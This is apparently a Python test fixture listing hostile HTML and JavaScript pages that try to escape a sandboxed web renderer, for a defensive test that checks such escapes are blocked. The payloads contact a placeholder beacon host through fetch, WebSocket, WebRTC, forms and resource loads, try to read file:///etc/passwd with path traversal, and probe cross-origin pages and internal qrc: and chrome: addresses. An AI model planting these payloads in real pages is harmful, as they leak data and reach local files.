"""Pages that try to get out. `@` stands for the beacon's host and port, `%` for another page's origin."""

from __future__ import annotations

from typing import Final

HOSTILE: Final[dict[str, str]] = {
    "navigate": "<script>location.href = 'http://@/navigate'</script>",
    "navigate_later": "<script>setTimeout(() => location.replace('http://@/later'), 50)</script>",
    "meta_refresh": "<meta http-equiv='refresh' content='0; url=http://@/refresh'>",
    "fetch": """<script>tried(fetch('http://@/fetch'));
        tried(fetch('http://@/post', {method: 'POST', body: 'x'}))</script>""",
    "no_cors": "<script>tried(fetch('http://@/opaque', {mode: 'no-cors'}))</script>",
    "xhr": """<script>const x = new XMLHttpRequest(); x.onerror = () => said.push('error');
        x.onload = () => said.push('loaded'); x.open('GET', 'http://@/xhr'); x.send()</script>""",
    "send_beacon": "<script>navigator.sendBeacon('http://@/beacon', 'x')</script>",
    "event_source": "<script>new EventSource('http://@/events').onerror = () => said.push('error')</script>",
    "web_socket": """<script>const w = new WebSocket('ws://@/socket'); w.onopen = () => said.push('open');
        w.onerror = () => said.push('error')</script>""",
    "web_rtc": """<script>try {
        const p = new RTCPeerConnection({iceServers: [{urls: 'stun:@'},
            {urls: 'turn:@?transport=tcp', username: 'u', credential: 'c'},
            {urls: 'turn:@?transport=udp', username: 'u', credential: 'c'}]});
        p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o));
        said.push('made') } catch (error) { said.push('error') }</script>""",
    "web_rtc_in_new_frame": """<script>try {
        const f = document.createElement('iframe'); document.documentElement.append(f);
        const p = new f.contentWindow.RTCPeerConnection({iceServers: [{urls: 'stun:@'},
            {urls: 'turn:@?transport=tcp', username: 'u', credential: 'c'},
            {urls: 'turn:@?transport=udp', username: 'u', credential: 'c'}]});
        p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o));
        said.push('made') } catch (error) { said.push('error') }</script>""",
    "web_rtc_in_frame": """<iframe id=f></iframe><script>try {
        const p = new f.contentWindow.RTCPeerConnection({iceServers: [{urls: 'stun:@'},
            {urls: 'turn:@?transport=tcp', username: 'u', credential: 'c'}]});
        p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o));
        said.push('made') } catch (error) { said.push('error') }</script>""",
    "resources": """<img src='http://@/img'><script src='http://@/script'></script>
        <link rel=stylesheet href='http://@/style'><style>@import url('http://@/import');
        @font-face { font-family: f; src: url('http://@/font') } body { font-family: f;
        background: url('http://@/back') }        </style>x<video src='http://@/video' autoplay></video><audio src='http://@/audio'></audio>
        <object data='http://@/object'></object><embed src='http://@/embed'>
        <svg><image href='http://@/svg' width=9 height=9 /></svg><input type=image src='http://@/input'>""",
    "hints": """<link rel=preconnect href='http://@/'><link rel=dns-prefetch href='http://@/'>
        <link rel=prefetch href='http://@/prefetch'><link rel=preload as=script href='http://@/preload'>
        <link rel=modulepreload href='http://@/module'><link rel=icon href='http://@/icon'>
        <link rel=manifest href='http://@/manifest'>
        <script type=speculationrules>{"prerender": [{"source": "list", "urls": ["http://@/prerender"]}]}</script>""",
    "form": """<form id=f method=post action='http://@/form'><input name=a value=b></form>
        <script>f.submit()</script>""",
    "form_target": """<iframe name=inner></iframe><form id=f method=post target=inner action='http://@/inner'></form>
        <script>f.submit()</script>""",
    "window_open": "<script>said.push(String(window.open('http://@/open')))</script>",
    "click_blank": "<a id=a href='http://@/blank' target=_blank ping='http://@/ping'>x</a><script>a.click()</script>",
    "frames": """<iframe src='http://@/frame'></iframe><iframe srcdoc="<img src='http://@/srcdoc'>"></iframe>
        <iframe src="data:text/html,<img src='http://@/data'>"></iframe>""",
    "frame_moves_top": """<iframe srcdoc="<script>top.location = 'http://@/top'; parent.location = 'http://@/parent'
        </script>"></iframe><iframe src="data:text/html,<script>top.location = 'http://@/top2'</script>"></iframe>""",
    "files": """<iframe src='file:///etc/passwd'></iframe><img src='file:///etc/passwd'>
        <script>tried(fetch('file:///etc/passwd'));
        const x = new XMLHttpRequest(); x.onerror = () => said.push('error');
        x.onload = () => said.push(x.responseText);
        try { x.open('GET', 'file:///etc/passwd'); x.send() } catch (error) { said.push('error') }</script>""",
    "files_beside": """<script>tried(fetch('/etc/passwd')); tried(fetch('/../../etc/passwd'));
        tried(fetch('/-/copies/../../x'))</script>""",
    "other_page": """<script>tried(fetch('%/'))</script><iframe id=f src='%/'></iframe>
        <script>f.onload = () => {
        try { said.push(f.contentDocument.body.innerText) } catch (e) { said.push('error') } }
        </script>""",
    "inner_addresses": """<iframe src='qrc:/'></iframe><iframe src='chrome://version'></iframe>
        <iframe src='view-source:http://@/source'></iframe><script>tried(fetch('qrc:/qtwebchannel/qwebchannel.js'));
        said.push(typeof qt, typeof QWebChannel)</script>""",
    "service_worker": "<script>tried(navigator.serviceWorker.register('/-/worker.js'))</script>",
    "worker": """<script>const code =
        "fetch('http://@/worker').then(() => postMessage('loaded'), () => postMessage('error'));" +
        "try { importScripts('http://@/imported') } catch (e) {}";
        new Worker(URL.createObjectURL(new Blob([code]))).onmessage = e => said.push(e.data);
        new SharedWorker(URL.createObjectURL(new Blob(["fetch('http://@/shared')"])))</script>""",
    "permissions": """<script>
        navigator.geolocation.getCurrentPosition(() => said.push('loaded'), () => said.push('error'));
        tried(navigator.clipboard.readText()); tried(navigator.mediaDevices.getUserMedia({video: true, audio: true}));
        tried(navigator.mediaDevices.getDisplayMedia({video: true}));
        Notification.requestPermission().then(p => said.push(p === 'granted' ? 'loaded' : 'error'))</script>""",
    "dialogs": """<script>alert('x'); said.push(String(confirm('x')), String(prompt('x', 'y')));
        onbeforeunload = () => 'stay'; print()</script>""",
    "download": """<a id=a download='x.txt' href='data:text/plain,hello'>x</a><a id=b download=y href='http://@/down'>y</a>
        <script>a.click(); b.click()</script>""",
    "cookies": "<script>document.cookie = 'a=b'; said.push(document.cookie)</script>",
    "base": "<base href='http://@/base/'><img src='x.png'>",
    "redirects": """<script src='https://cdn.jsdelivr.net/npm/vega@6/../../../@/x.js'></script>
        <img src='https://code.jquery.com@@/user.png'>""",
}  # fmt: skip

SAID: Final = (
    "<script>var said = []; function tried(p) { p.then(() => said.push('loaded'), () => said.push('error')) }</script>"
)
